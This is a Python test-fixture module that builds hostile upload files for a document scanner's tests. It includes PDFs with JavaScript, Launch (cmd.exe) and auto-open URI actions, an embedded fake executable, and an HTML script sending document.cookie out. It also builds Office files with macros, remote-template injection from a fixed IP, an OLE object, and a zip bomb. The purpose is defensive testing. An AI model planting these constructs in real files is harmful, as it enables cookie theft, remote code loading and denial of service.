"""Hostile files, built in the tests (nothing dangerous is committed): each is what an attacker would
upload, named as the innocent document it pretends to be."""

from __future__ import annotations

import io
import zipfile

import pikepdf

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


# ---- PDF -------------------------------------------------------------------------------------------------
def _pdf(build=None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def clean_pdf() -> bytes:
    return _pdf()


def pdf_with_goto_open_action() -> bytes:
    """What Word's "save as PDF" may write: open at page 1. Harmless, and accepted."""

    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])

    return _pdf(build)


def pdf_with_open_action_javascript() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned')"))
        )

    return _pdf(build)


def pdf_with_launch() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe"))
        )

    return _pdf(build)


def pdf_with_page_auto_action() -> bytes:
    """/AA on a page: runs when the page opens, without any /JS key on the page itself."""

    def build(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil/")))
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)

    return _pdf(build)


def pdf_with_embedded_file() -> bytes:
    def build(pdf):
        pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00not really", mime_type="")

    return _pdf(build)


def html_with_pdf_marker() -> bytes:
    """An HTML page with a script whose first kilobyte merely contains %PDF- (what passed before)."""
    return b"<!doctype html><html><!-- %PDF-1.7 --><body><script>fetch('/x?c='+document.cookie)</script></body></html>"


# ---- Office ----------------------------------------------------------------------------------------------
def _zip(parts: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _content_types(main: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def _rels(*rels: tuple[str, str, str | None]) -> str:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{REL_TYPE}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(rels, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'


def _docx_parts(main: str = DOCX_MAIN, extra_types: str = "") -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": _content_types(main, extra_types),
        "_rels/.rels": _rels(("officeDocument", "word/document.xml", None)),
        "word/document.xml": f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p></w:body></w:document>',
    }


def clean_docx() -> bytes:
    return _zip(_docx_parts())


def docx_with_hyperlink() -> bytes:
    """An external link that is only followed on a click: accepted."""
    parts = _docx_parts()
    parts["word/_rels/document.xml.rels"] = _rels(("hyperlink", "https://anhai.danang.gov.vn/", "External"))
    return _zip(parts)


def docx_with_macro() -> bytes:
    parts = _docx_parts(
        DOCM_MAIN, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    parts["word/_rels/document.xml.rels"] = _rels(("vbaProject", "vbaProject.bin", None))
    return _zip(parts)


def docx_with_external_template() -> bytes:
    """The "template injection" trick: Word fetches a remote .dotm when the file opens."""
    parts = _docx_parts()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W_NS}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("attachedTemplate", "http://198.51.100.7/template.dotm", "External")
    )
    return _zip(parts)


def xlsx_with_ole_object() -> bytes:
    parts = {
        "[Content_Types].xml": _content_types(XLSX_MAIN).replace("/word/document.xml", "/xl/workbook.xml"),
        "_rels/.rels": _rels(("officeDocument", "xl/workbook.xml", None)),
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": "<worksheet/>",
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(("oleObject", "../embeddings/oleObject1.bin", None)),
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
    }
    return _zip(parts)


def zip_bomb_docx(expanded_mb: int = 150) -> bytes:
    """A DOCX of a few hundred kilobytes whose one part expands to `expanded_mb` MB of zeros."""
    parts = _docx_parts()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open("word/media/padding.bin", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(expanded_mb):
                entry.write(chunk)
    return buffer.getvalue()
